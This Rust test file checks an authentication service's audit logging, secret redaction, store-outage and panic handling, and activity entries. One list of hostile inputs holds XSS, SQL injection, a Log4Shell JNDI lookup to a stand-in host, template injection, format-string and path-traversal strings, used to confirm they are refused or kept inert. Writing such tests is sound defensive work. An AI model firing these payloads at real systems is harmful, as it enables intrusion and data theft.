//! Section 11: what is noted of what happens, and what is answered when something breaks.

use std::{
    cell::RefCell,
    collections::BTreeSet,
    fmt::{self, Write as _},
    net::IpAddr,
    sync::{Arc, Once},
};

use async_trait::async_trait;
use gatewright::core::{
    model::{AccountId, Device, Session, SessionId, Standing, Timestamp, UserId},
    port::{Applied, End, EndAll, Entry, Opened, Opening, Redelivery, RollForward, Rotation, Sessions, StoreError},
};
use gatewright_testkit::{
    TestApp,
    app::{Browser, PASSWORD, Setup, secs},
};
use serde_json::{Value, json};
use tracing::{
    Event, Metadata, Subscriber,
    field::{Field, Visit},
    span,
};

use crate::{
    access_table::{Caller, Row, World, rows},
    family::{EMAIL, PIN, family, grace},
};

/// Sessions that cannot be looked up without a panic.
pub(crate) struct Panicking(pub(crate) Arc<dyn Sessions>);

#[async_trait]
impl Sessions for Panicking {
    async fn open(&self, opening: Opening, entry: Entry) -> Result<Opened, StoreError> {
        self.0.open(opening, entry).await
    }
    async fn standing(&self, _: SessionId) -> Result<Option<Standing>, StoreError> {
        panic!("the canary of a panic")
    }
    async fn rotate(&self, step: Rotation) -> Result<Applied, StoreError> {
        self.0.rotate(step).await
    }
    async fn redeliver(&self, step: Redelivery) -> Result<Applied, StoreError> {
        self.0.redeliver(step).await
    }
    async fn roll_forward(&self, step: RollForward, entry: Entry) -> Result<Applied, StoreError> {
        self.0.roll_forward(step, entry).await
    }
    async fn end(&self, end: End, entry: Entry) -> Result<bool, StoreError> {
        self.0.end(end, entry).await
    }
    async fn end_all(&self, end: EndAll, entry: Entry) -> Result<bool, StoreError> {
        self.0.end_all(end, entry).await
    }
    async fn of_user(&self, user: UserId, now: Timestamp) -> Result<Vec<Session>, StoreError> {
        self.0.of_user(user, now).await
    }
    async fn of_account(&self, account: AccountId, now: Timestamp) -> Result<Vec<Session>, StoreError> {
        self.0.of_account(account, now).await
    }
    async fn knows_source(&self, account: AccountId, ip: IpAddr) -> Result<bool, StoreError> {
        self.0.knows_source(account, ip).await
    }

    async fn knows_device(&self, account: AccountId, device: &Device) -> Result<bool, StoreError> {
        self.0.knows_device(account, device).await
    }
}

thread_local! {
    /// What is logged on this thread, while somebody keeps it: each test has a thread and a runtime of its own.
    static KEPT: RefCell<Option<Vec<String>>> = const { RefCell::new(None) };
}

/// Keeps what this thread logs until it is dropped. One subscriber serves all tests, because those of single threads race
/// for the caches of call sites.
pub(crate) struct Log;

impl Log {
    pub(crate) fn keep() -> Self {
        static SUBSCRIBER: Once = Once::new();
        SUBSCRIBER.call_once(|| tracing::subscriber::set_global_default(Keeper).unwrap());
        KEPT.set(Some(Vec::new()));
        Self
    }

    /// The lines since the last call.
    #[expect(clippy::unused_self, reason = "whoever has it keeps the log")]
    pub(crate) fn lines(&self) -> Vec<String> {
        KEPT.with_borrow_mut(|kept| kept.as_mut().map(std::mem::take).unwrap_or_default())
    }
}

impl Drop for Log {
    fn drop(&mut self) {
        KEPT.set(None);
    }
}

struct Keeper;

struct Fields(String);

impl Fields {
    fn keep(self) {
        KEPT.with_borrow_mut(|kept| kept.iter_mut().for_each(|lines| lines.push(self.0.clone())));
    }
}

impl Visit for Fields {
    fn record_debug(&mut self, field: &Field, value: &dyn fmt::Debug) {
        write!(self.0, " {field}={value:?}").unwrap();
    }
}

impl Subscriber for Keeper {
    fn enabled(&self, metadata: &Metadata<'_>) -> bool {
        metadata.target().starts_with("gatewright")
    }
    fn new_span(&self, span: &span::Attributes<'_>) -> span::Id {
        let mut fields = Fields(format!("span {}", span.metadata().name()));
        span.record(&mut fields);
        fields.keep();
        span::Id::from_u64(1)
    }
    fn record(&self, _: &span::Id, values: &span::Record<'_>) {
        let mut fields = Fields("record".to_owned());
        values.record(&mut fields);
        fields.keep();
    }
    fn record_follows_from(&self, _: &span::Id, _: &span::Id) {}
    fn event(&self, event: &Event<'_>) {
        let mut fields = Fields(event.metadata().level().to_string());
        event.record(&mut fields);
        fields.keep();
    }
    fn enter(&self, _: &span::Id) {}
    fn exit(&self, _: &span::Id) {}
}

#[tokio::test]
async fn lg1_every_sign_in_every_failure_and_every_denial_is_one_line_of_the_log() {
    let app = TestApp::start().await;
    let ada = family(&app, "body").await;
    let grace = grace(&app, "body").await;
    let log = Log::keep();
    let login = |password: &str| json!({"login": EMAIL, "password": password, "user": "ada", "transport": "body"});
    let events = |log: &Log| log.lines().into_iter().filter(|line| !line.starts_with("span")).collect::<Vec<_>>();

    ada.copy().post("/auth/login").json(login(PASSWORD)).await.expect_status(200);
    let [line] = &events(&log)[..] else { panic!("one line") };
    assert!(
        line.contains("signed in") && line.contains("act=\"logged_in\"") && line.contains(&ada.user_id()),
        "{line}"
    );

    ada.copy().post("/auth/login").json(login("a wrong guess")).await.expect_status(401);
    let [line] = &events(&log)[..] else { panic!("one line") };
    assert!(line.contains("refused") && line.contains("WrongPassword"), "{line}");

    grace.post("/auth/users").json(json!({"username": "x"})).await.expect_status(403);
    let [line] = &events(&log)[..] else { panic!("one line") };
    assert!(line.contains("refused") && line.contains("may not do this"), "{line}");

    app.browser().get("/auth/me").bearer("garbage").await.expect_status(401);
    let [line] = &events(&log)[..] else { panic!("one line") };
    assert!(line.contains("refused") && line.contains("access token"), "{line}");
}

/// docs/attacks.md#secrets-in-logs
#[tokio::test]
async fn lg2_no_secret_of_any_operation_reaches_the_log() {
    for row in rows() {
        for caller in [Caller::Owner, Caller::Selection, Caller::Query, Caller::Cookie, Caller::Refresh, Caller::Ended]
        {
            let log = Log::keep();
            let world = World::for_row(caller, &row).await;
            let answer = world.call(&row).await.json();
            let mut secrets =
                vec![PASSWORD.to_owned(), "quite another".to_owned(), "eyJ".to_owned(), "gwr_".to_owned()];
            secrets.push("argon2".to_owned());
            secrets.extend(answer["selection_token"].as_str().map(str::to_owned));
            let lines = log.lines();
            assert!(!lines.is_empty(), "the log is kept");
            for line in lines {
                assert!(!secrets.iter().any(|secret| line.contains(secret)), "{}: {line}", row.name());
                assert!(!line.contains(&format!("\"{PIN}\"")), "{}: {line}", row.name());
            }
        }
    }
}

/// Strings that forge lines, markup, queries, or upset what prints them.
const NAUGHTY: [&str; 22] = [
    "line\r\nbreak",
    "nul\0byte",
    "\u{1b}[31mred\u{1b}[0m",
    "\u{202e}gnp.exe",
    "\u{2066}isolate\u{2069}",
    "zero\u{200b}width\u{feff}",
    "Z̮̞̠͙͔ͅḀ̗̞͈̻̗Ḷ͙͎̯̹̞͓G̻O̭̗̮",
    "\u{fdfd}",
    "田中さんにあげて下さい",
    "👩‍👩‍👧‍👦 🇺🇸",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "' OR 1=1 --",
    "1;DROP TABLE users",
    "${jndi:ldap://evil.test/a}",
    "{{7*7}}",
    "%s%s%n%x",
    "../../../../etc/passwd",
    "null",
    "true",
    "-1e400",
    "ﷺ\u{300}\u{301}",
];

/// docs/attacks.md#forged-lines
#[tokio::test]
async fn lg3_a_naughty_name_is_refused_or_kept_as_it_is_and_forges_no_line() {
    let app = Setup::default().policy(|policy| policy.max_sessions = 100).start().await;
    let ada = app.sign_up_in("body", EMAIL).await;
    let log = Log::keep();
    let forges = |text: &str| {
        text.chars()
            .any(|c| c.is_control() || ('\u{202a}'..='\u{202e}').contains(&c) || ('\u{2066}'..='\u{2069}').contains(&c))
    };
    let mut accepted = 0;
    for naughty in NAUGHTY {
        let me =
            ada.patch("/auth/me").json(json!({"profile": {"display_name": naughty, "metadata": {"x": naughty}}})).await;
        if forges(naughty) {
            assert_eq!(me.expect_problem(422, "validation_failed").json()["field"], "profile.display_name");
        } else {
            assert_eq!(me.expect_status(200).json()["user"]["profile"]["display_name"], naughty);
            assert_eq!(ada.get("/auth/me").await.json()["user"]["profile"]["metadata"]["x"], naughty);
            accepted += 1;
        }
        let renamed = ada.patch(&format!("/auth/users/{}", ada.user_id())).json(json!({"username": naughty})).await;
        assert!([200, 422].contains(&renamed.status.as_u16()), "{naughty:?}: {}", renamed.text());
        assert!(!(forges(naughty) && renamed.status == 200), "{naughty:?}");
        let login = json!({"login": naughty, "password": naughty, "client": naughty, "user": naughty});
        let answer = ada.post("/auth/login").json(login).await;
        assert!([401, 422, 429].contains(&answer.status.as_u16()), "{naughty:?}: {}", answer.text());
        let agent: Vec<u8> = naughty.bytes().filter(|byte| *byte >= b' ' || *byte == b'\t').collect();
        ada.get("/auth/me").header("user-agent", agent.clone()).await.expect_status(200);
        let body = json!({"login": EMAIL, "password": PASSWORD});
        let second = app.browser();
        second.post("/auth/login").header("user-agent", agent).json(body).await.expect_status(200);
        for line in log.lines() {
            assert!(!forges(&line), "{line:?}");
        }
    }
    assert!(accepted > 10, "{accepted}");
    let kept = ada.get("/auth/activity?limit=200").await.text() + &ada.get("/auth/sessions").await.text();
    assert!(!forges(&kept), "{kept:?}");
}

/// docs/attacks.md#store-errors
#[tokio::test]
async fn lg4_every_operation_that_needs_the_store_is_out_while_it_is_away() {
    for row in
        rows().into_iter().filter(|row| row.path != "/auth/openapi.json" && !row.path.starts_with("/.well-known/"))
    {
        let caller = match row.path {
            "/auth/select" => Caller::Selection,
            "/auth/refresh" => Caller::Refresh,
            "/auth/introspect" | "/auth/revoke" => Caller::Key,
            "/admin/v1/bootstrap" => Caller::Nobody,
            path if path.starts_with("/admin/v1/") => Caller::Admin,
            _ => Caller::Cookie,
        };
        let world = World::for_row(caller, &row).await;
        world.app.fuse.blow_after(0);
        let answer = world.call(&row).await.expect_problem(503, "store_unavailable");
        assert!(answer.set_cookies().is_empty(), "{}", row.name());
        assert_eq!(answer.header("retry-after"), Some("1"));
        assert!(answer.header("clear-site-data").is_none() && answer.header("www-authenticate").is_none());
    }
}

/// docs/attacks.md#store-errors
#[tokio::test]
async fn lg4_a_panic_is_one_requests_500_and_says_nothing() {
    let app = Setup::default().sessions(|inner| Arc::new(Panicking(inner))).start().await;
    let ada = app.sign_up_in("body", EMAIL).await;
    for _ in 0..3 {
        let answer = ada.get("/auth/me").await.expect_problem(500, "internal_error");
        assert!(!answer.text().contains("canary") && answer.set_cookies().is_empty());
        ada.refresh().await.expect_problem(500, "internal_error");
    }
    app.log_in(EMAIL, None, "body").await;
}

#[tokio::test]
async fn lg5_an_entry_says_when_who_from_where_and_in_which_session() {
    let app = TestApp::start().await;
    let ada = app.browser();
    let body = json!({"email": EMAIL, "password": PASSWORD, "transport": "body"});
    ada.post("/auth/signup").from("2001:db8::7").header("user-agent", "a test/1.0").json(body).await.expect_status(201);
    let list = ada.get("/auth/activity").await.json();
    let entry = &list["activity"].as_array().unwrap().iter().find(|entry| entry["act"] == "logged_in").unwrap();
    assert_eq!(entry["at"], "2026-11-21T12:00:00Z");
    assert_eq!(entry["user_id"], *ada.user_id());
    assert_eq!(entry["session_id"], *ada.session_id());
    assert_eq!(entry["ip"], "2001:db8::7");
    assert_eq!(entry["user_agent"], "a test/1.0");
    let log = Log::keep();
    let answer = ada.get("/auth/me").await.expect_status(200);
    let id = answer.header("x-request-id").unwrap();
    assert!(log.lines().iter().any(|line| line.starts_with("span request") && line.contains(id)));
}

async fn acts(browser: &Browser) -> Vec<(String, String)> {
    let list = browser.get("/auth/activity?limit=200").await.expect_status(200).json();
    let text = |value: &Value| value.as_str().unwrap().to_owned();
    list["activity"].as_array().unwrap().iter().map(|entry| (text(&entry["id"]), text(&entry["act"]))).collect()
}

/// What an operation writes when the owner does it. All others write nothing.
const WRITTEN: [(&str, &[&str]); 34] = [
    ("POST /auth/login, as the owner", &["logged_in"]),
    ("POST /auth/login, a wrong password", &["login_failed"]),
    ("POST /auth/select, a member", &["logged_in"]),
    ("POST /auth/select, the owner", &["logged_in"]),
    ("POST /auth/select, a child with its PIN", &["logged_in"]),
    ("POST /auth/switch, to a member", &["switched"]),
    ("POST /auth/switch, to the owner", &["switched"]),
    ("POST /auth/switch, to a child with its PIN", &["switched"]),
    ("POST /auth/reauthenticate", &["reauthenticated"]),
    ("POST /auth/logout", &["logged_out"]),
    ("POST /auth/logout, others", &["other_sessions_ended"]),
    ("POST /auth/logout, account", &["all_sessions_ended"]),
    ("PATCH /auth/me", &["user_changed"]),
    ("POST /auth/users", &["user_added"]),
    ("PATCH /auth/users/{id}, own profile", &["user_changed"]),
    ("PATCH /auth/users/{id}, own name", &["user_changed"]),
    ("PATCH /auth/users/{id}, another's profile", &["user_changed"]),
    ("PATCH /auth/users/{id}, another's name", &["user_changed"]),
    ("DELETE /auth/users/{id}, another", &["user_removed"]),
    ("PUT /auth/users/{id}/pin, own", &["pin_set"]),
    ("PUT /auth/users/{id}/pin, another's", &["pin_set"]),
    ("DELETE /auth/sessions/{id}, own", &["session_ended"]),
    ("DELETE /auth/sessions/{id}, another's", &["session_ended"]),
    ("PUT /auth/password", &["password_changed"]),
    ("PUT /auth/email", &["email_change_asked"]),
    ("POST /auth/invitations", &["invited"]),
    ("POST /auth/password/reset", &["password_reset"]),
    ("POST /auth/email/verify, by link", &["email_verified"]),
    ("POST /auth/email/verify, by code, signed in", &["email_verified"]),
    ("POST /auth/email/confirm, by link", &["email_changed"]),
    ("POST /auth/email/confirm, by code, signed in", &["email_changed"]),
    // A user who came, and who is there.
    ("POST /auth/invitations/accept", &["logged_in", "invitation_accepted"]),
    ("GET /auth/account/export", &["account_exported"]),
    ("POST /auth/switch, to a child, a wrong PIN", &["pin_failed"]),
];

#[tokio::test]
async fn lg6_every_change_writes_exactly_one_entry_and_a_refusal_of_a_change_none() {
    let mut all = rows();
    let wrong = all.iter().find(|row| row.name() == "POST /auth/switch, to a child with its PIN").unwrap().clone();
    all.push(wrong.with("to a child, a wrong PIN", json!({"username": "kid", "pin": "0000"})));
    let mut met = BTreeSet::new();
    // The deletion of an account leaves one entry behind that no API shows; the conformance suite of the stores looks at it.
    // Two calls leave no password behind that a witness could log in with; their own tests look at what they write.
    let forgets = |row: &Row| ["/auth/email/undo", "/auth/magic-link/redeem"].contains(&row.path);
    for row in all.into_iter().filter(|row| !row.is("DELETE", "/auth/account") && !forgets(row)) {
        let caller = if row.path == "/auth/select" { Caller::Selection } else { Caller::Owner };
        let world = World::for_row(caller, &row).await;
        let witness = world.owner_again().await;
        let before = acts(&witness).await;
        let _ = world.call(&row).await;
        world.app.clock.advance(secs(1)); // so that "newest first" is an order
        let witness = world.owner_again().await;
        let mut written: Vec<_> = acts(&witness).await;
        written.retain(|entry| !before.contains(entry));
        // The witness itself came last; behind a changed password it failed first.
        let mut names: Vec<&str> = written.iter().map(|(_, act)| act.as_str()).collect();
        assert_eq!(names.remove(0), "logged_in");
        if row.path.starts_with("/auth/password") {
            names.retain(|act| *act != "login_failed");
        }
        let name = row.name();
        let expected = WRITTEN.iter().find(|(written, _)| *written == name).map_or(&[][..], |(_, acts)| *acts);
        assert_eq!(names, expected, "{name}");
        met.insert(name);
    }
    assert!(WRITTEN.iter().all(|(name, _)| met.contains(*name)), "{met:?}");
}

/// Nothing is written for who was refused, so that nobody fills an account's log from outside; failed proofs are the exception.
#[tokio::test]
async fn lg6_what_is_refused_to_a_member_leaves_no_trace_in_the_account() {
    for row in rows() {
        let world = World::for_row(Caller::OldChild, &row).await;
        let witness = world.owner_again().await;
        let before = acts(&witness).await;
        let status = world.call(&row).await.status;
        if status == 403 || status == 404 {
            assert_eq!(acts(&witness).await, before, "{}", row.name());
        }
    }
}
